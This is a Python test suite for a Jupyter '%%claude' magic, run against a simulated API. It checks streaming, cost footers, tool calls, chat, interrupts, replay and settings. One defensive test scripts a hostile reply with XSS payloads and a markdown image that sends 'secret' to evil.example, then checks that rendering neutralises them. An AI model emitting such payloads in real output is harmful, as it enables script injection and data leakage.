"""%%claude in a real kernel against the loopback simulator: streaming, footer, dry run, tools, chat, interrupts,
errors, replay, safety."""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

from display_safety import assert_inert

from workbench.pricing import format_usd

STORY = "\n\n".join(
    f"**Part {i}.** " + " ".join(f"word{i}x{j}" for j in range(60)) + "." for i in range(1, 30)
)


@contextmanager
def simulator_options(simulator: Any, **changes: Any) -> Iterator[None]:
    original = simulator.engine.options
    simulator.engine.options = original.replace(**changes)
    try:
        yield
    finally:
        simulator.engine.options = original


def message_posts(simulator: Any) -> list[Any]:
    return [r for r in simulator.engine.received if r.method == "POST" and r.path == "/v1/messages"]


def final_run(execution: Any) -> dict[str, Any]:
    return execution.final_bundle()["metadata"]["claude_workbench"]["run"]


def assert_one_display_updated_in_place(execution: Any) -> list[dict[str, Any]]:
    displays = execution.of_type("display_data")
    updates = execution.of_type("update_display_data")
    assert len(displays) == 1
    display_id = displays[0]["content"]["transient"]["display_id"]
    assert {u["content"]["transient"]["display_id"] for u in updates} == {display_id}
    return updates


def test_reply_streams_into_one_display_updated_in_place(kernel: Any, simulator: Any) -> None:
    simulator.engine.script_reply(text=STORY)
    with simulator_options(simulator, deltas_per_second=300):
        execution = kernel.run("%%claude -n story --max-tokens 8000\nTell me a story.")
    assert execution.ok, execution.error
    updates = assert_one_display_updated_in_place(execution)
    live = [u for u in updates if "text/plain" not in u["content"]["data"]]
    assert len(live) >= 3, "several updates must arrive before the end"
    final = updates[-1]["content"]
    assert set(final["data"]) == {"text/html", "text/plain"}
    assert final["data"]["text/plain"].startswith(STORY)
    assert "<strong>Part 29.</strong>" in final["data"]["text/html"]
    run = final["metadata"]["claude_workbench"]["run"]
    assert run["status"] == "ok" and run["name"] == "story"
    # Bytes stay linear: no live update resends more than the bounded tail.
    assert max(len(u["content"]["data"]["text/html"]) for u in live) < 4_000


def test_footer_figures_match_the_usage(kernel: Any, simulator: Any) -> None:
    execution = kernel.run("%%claude --max-tokens 300\nName three colours.")
    assert execution.ok, execution.error
    run = final_run(execution)
    usage = run["usage"]
    plain = execution.final_bundle()["data"]["text/plain"]
    footer = plain.splitlines()[-1]
    assert f"in {usage['input_tokens']:,}" in footer and f"out {usage['output_tokens']:,}" in footer
    assert format_usd(run["cost"]) in footer
    assert f"stop {run['stop_reason']}" in footer and run["model"] in footer
    assert simulator.url in footer  # the backend is always named
    assert f"total {run['timings']['total']:.2f} s" in footer


def test_dry_run_sends_no_message(kernel: Any, simulator: Any) -> None:
    before = len(message_posts(simulator))
    execution = kernel.run("%%claude --dry-run -s 'Be brief.'\nHow many moons has Mars?")
    assert execution.ok, execution.error
    assert len(message_posts(simulator)) == before
    plain = execution.final_bundle()["data"]["text/plain"]
    assert "dry run: nothing sent" in plain and '"How many moons has Mars?"' in plain
    assert '"system": "Be brief."' in plain  # quotes on the magic line are shell-like
    assert "input tokens (count_tokens)" in plain and "at most $" in plain


def test_tool_loop_runs_a_python_function(kernel: Any, simulator: Any) -> None:
    setup = kernel.run(
        "calls = []\n"
        "def get_weather(city: str) -> str:\n"
        "    '''Current weather for a city.'''\n"
        "    calls.append(city)\n"
        "    return f'{city}: 18 C, light rain'\n"
    )
    assert setup.ok
    simulator.engine.script_reply(tool_uses=[{"name": "get_weather", "input": {"city": "Paris"}}])
    simulator.engine.script_reply(text="It is 18 C and raining in Paris.")
    before = len(message_posts(simulator))
    execution = kernel.run("%%claude --tools get_weather --run-tools --out weather\nWeather in Paris?")
    assert execution.ok, execution.error
    posts = message_posts(simulator)[before:]
    assert len(posts) == 2
    answer = posts[1].json["messages"][-1]["content"][0]
    assert answer["type"] == "tool_result" and answer["content"] == "Paris: 18 C, light rain"
    finals = [c for c in execution.outputs if "claude_workbench" in c.get("metadata", {})]
    assert [f["metadata"]["claude_workbench"]["run"]["stop_reason"] for f in finals] == ["tool_use", "end_turn"]
    shown = "".join(c["data"].get("text/plain", "") for c in execution.outputs)
    assert "[tool_use get_weather]" in shown and "[tool_result] Paris: 18 C" in shown
    check = kernel.run("print(calls, weather.text)")
    assert check.stdout.strip() == "['Paris'] It is 18 C and raining in Paris."


def test_chat_thread_continues_across_cells(kernel: Any, simulator: Any) -> None:
    simulator.engine.script_reply(text="Lisbon.")
    assert kernel.run("%%claude --chat trip\nSuggest a city.").ok
    simulator.engine.script_reply(text="Because of the light.")
    assert kernel.run("%%claude --chat trip\nWhy?").ok
    messages = message_posts(simulator)[-1].json["messages"]
    assert [m["role"] for m in messages] == ["user", "assistant", "user"]
    assert "Suggest a city." in str(messages[0]["content"]) and "Why?" in str(messages[2]["content"])
    assert "Lisbon." in str(messages[1]["content"])


def test_interrupt_keeps_the_partial_reply(kernel: Any, simulator: Any) -> None:
    simulator.engine.script_reply(text=STORY)
    with simulator_options(simulator, deltas_per_second=20):
        msg_id = kernel.start("%%claude --max-tokens 8000\nA long story, please.")
        client = kernel.client
        while True:  # wait until text is on screen
            message = client.get_iopub_msg(timeout=30)
            if message["parent_header"].get("msg_id") == msg_id and message["msg_type"] == "update_display_data":
                if "wb-text" in message["content"]["data"]["text/html"]:
                    break
        started = time.monotonic()
        kernel.manager.interrupt_kernel()
        execution = kernel.collect(msg_id)
    assert time.monotonic() - started < 5, "the stream stops at once, not at the end of the reply"
    assert execution.ok, execution.error  # the cell itself succeeds: the partial run is its result
    run = final_run(execution)
    assert run["status"] == "interrupted"
    plain = execution.final_bundle()["data"]["text/plain"]
    partial = plain.split("\n[interrupted]")[0]
    assert 0 < len(partial) < len(STORY) and STORY.startswith(partial)
    assert kernel.run("print(_.status, len(_.text) > 0)").stdout.strip() == "interrupted True"


def test_api_error_is_one_line(kernel: Any, simulator: Any) -> None:
    with simulator_options(simulator, fail=[529, 529, 529], retry_after=0.0):
        execution = kernel.run("%%claude\nHello?")
    error = execution.error
    assert error is not None and error["ename"] == "ClaudeAPIError"
    assert len(error["traceback"]) == 1
    line = error["traceback"][0]
    assert "529 overloaded_error" in line and "request_id req_" in line
    assert final_run(execution)["status"] == "error"


def test_replay_is_free_and_says_so(kernel: Any, simulator: Any) -> None:
    assert kernel.run("%config Claude.replay = 'auto'").ok
    try:
        first = kernel.run("%%claude\nReplay me, please.")
        before = len(message_posts(simulator))
        second = kernel.run("%%claude\nReplay me, please.")
        fresh = kernel.run("%%claude --fresh\nReplay me, please.")
    finally:
        kernel.run("%config Claude.replay = 'live'")
    assert first.ok and second.ok and fresh.ok
    assert len(message_posts(simulator)) == before + 1  # only --fresh called the API
    assert "replayed · $0" in second.final_bundle()["data"]["text/plain"]
    assert final_run(second)["replayed"] is True
    assert "replayed" not in fresh.final_bundle()["data"]["text/plain"].splitlines()[-1]


def test_hostile_reply_is_rendered_inert(kernel: Any, simulator: Any) -> None:
    hostile = (
        "Hi <script>alert(1)</script> <img src=x onerror=alert(2)>\n\n"
        "![leak](https://evil.example/c?d=secret)\n\n[click](javascript:alert(3))"
    )
    simulator.engine.script_reply(text=hostile)
    execution = kernel.run("%%claude\nSay something.")
    assert execution.ok
    for content in execution.outputs:
        assert not {"text/markdown", "application/javascript"} & set(content["data"])
        assert_inert(content["data"]["text/html"])
    html = execution.final_bundle()["data"]["text/html"]
    assert "[image: leak]" in html and "&lt;script&gt;" in html


def test_run_is_bound_to_out_and_underscore_without_double_display(kernel: Any, simulator: Any) -> None:
    execution = kernel.run("%%claude --out answer\nSay hi.")
    assert execution.ok
    assert not execution.of_type("execute_result")
    check = kernel.run("print(type(answer).__name__, answer is _, answer.status, answer.text == _.text)")
    assert check.stdout.strip() == "Run True ok True"


def test_no_stream_sends_one_plain_request(kernel: Any, simulator: Any) -> None:
    before = len(message_posts(simulator))
    execution = kernel.run("%%claude --no-stream\nSay hi.")
    assert execution.ok, execution.error
    (post,) = message_posts(simulator)[before:]
    assert "stream" not in post.json
    assert_one_display_updated_in_place(execution)
    assert final_run(execution)["status"] == "ok"


def test_a_run_shows_itself_inertly(kernel: Any, simulator: Any) -> None:
    simulator.engine.script_reply(text="Visible <script>x()</script> answer.", thinking="Let me think.")
    assert kernel.run("%%claude --thinking 1024 --max-tokens 2048 --out shown\nThink, then answer.").ok
    execution = kernel.run("shown")
    (result,) = execution.of_type("execute_result")
    data = result["content"]["data"]
    assert set(data) == {"text/html", "text/plain"}
    assert_inert(data["text/html"])
    assert '<details class="wb-thinking"><summary>Thinking</summary>' in data["text/html"]
    expected = "[thinking]\nLet me think.\n[/thinking]\n\nVisible <script>x()</script> answer."
    assert data["text/plain"].startswith(expected)


def test_settings_and_commands(kernel: Any, simulator: Any) -> None:
    assert kernel.run("%config Claude.max_tokens = 77").ok
    try:
        config = kernel.run("%claude config")
        assert "Claude.max_tokens = 77" in config.stdout and f"backend: {simulator.url}" in config.stdout
        before = len(message_posts(simulator))
        assert kernel.run("%%claude -n settings\nHi.").ok
        assert message_posts(simulator)[before].json["max_tokens"] == 77
    finally:
        kernel.run("%config Claude.max_tokens = 1024")
    models = kernel.run("%claude models")
    assert "claude-haiku-4-5" in models.stdout and "(Claude.model)" in models.stdout
    history = kernel.run("%claude history settings")
    assert "settings@1" in history.final_bundle()["data"]["text/plain"]
    export = kernel.run("%claude export settings curl")
    assert "curl" in export.stdout and '"max_tokens": 77' in export.stdout and "sk-ant-test" not in export.stdout
    bad = kernel.run("%config Claude.replay = 'sometimes'")
    assert bad.error is not None or "sometimes" in bad.stderr


def test_models_and_repeat_run_each_then_compare(kernel: Any, simulator: Any) -> None:
    before = len(message_posts(simulator))
    execution = kernel.run("%%claude --models claude-haiku-4-5,claude-sonnet-4-5 --out pair -n pair\nSay hi.")
    assert execution.ok, execution.error
    posts = message_posts(simulator)[before:]
    assert [p.json["model"] for p in posts] == ["claude-haiku-4-5", "claude-sonnet-4-5"]
    assert "wb-runs" in execution.outputs[-1]["data"]["text/html"]  # the comparison follows the runs
    check = kernel.run("print([r.model for r in pair], [r.version for r in pair])")
    assert check.stdout.strip() == "['claude-haiku-4-5', 'claude-sonnet-4-5'] [1, 2]"
    assert kernel.run("%config Claude.replay = 'auto'").ok
    try:
        before = len(message_posts(simulator))
        assert kernel.run("%%claude --repeat 3\nSay hi.").ok
    finally:
        kernel.run("%config Claude.replay = 'live'")
    assert len(message_posts(simulator)) == before + 3  # repeats are live even under the auto replay policy


def test_cell_id_sent_by_the_frontend_is_recorded(kernel: Any, simulator: Any) -> None:
    """JupyterLab sends the cell id in the execute request's metadata; the run keeps it."""
    client = kernel.client
    request = client.session.msg(
        "execute_request",
        {"code": "%%claude\nWhich cell am I?", "silent": False, "store_history": True, "user_expressions": {},
         "allow_stdin": False, "stop_on_error": False},
        metadata={"cellId": "3f2a9c1e-lab-cell"},
    )
    client.shell_channel.send(request)
    execution = kernel.collect(request["header"]["msg_id"])
    assert execution.ok, execution.error
    run = final_run(execution)
    assert run["cell_id"] == "3f2a9c1e-lab-cell" and run["group"] == "cell:3f2a9c1e-lab-cell"


def test_playground_opens_from_the_line_magic(kernel: Any) -> None:
    execution = kernel.run("%claude playground scratch")
    assert execution.ok, execution.error
    assert any("application/vnd.jupyter.widget-view+json" in c["data"] for c in execution.outputs)


def test_a_model_without_a_price_says_so(kernel: Any) -> None:
    execution = kernel.run("%%claude --model claude-fable-5-2 --max-tokens 300\nHi.")
    assert execution.ok, execution.error
    assert final_run(execution).get("cost") is None
    assert "price unknown" in execution.final_bundle()["data"]["text/plain"].splitlines()[-1]
